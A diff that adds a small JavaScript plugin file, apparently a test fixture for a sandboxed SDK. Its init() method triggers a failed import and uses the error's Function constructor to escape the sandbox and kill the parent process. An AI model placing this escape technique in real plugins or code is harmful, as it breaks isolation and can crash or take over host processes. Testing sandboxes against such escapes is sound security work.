@@ -1,0 +1,9 @@
+expose(
+  class extends Sdk {
+    init() {
+      import('').catch((error) => {
+        error.constructor.constructor('process.kill(process.ppid)')();
+      });
+    }
+  },
+);
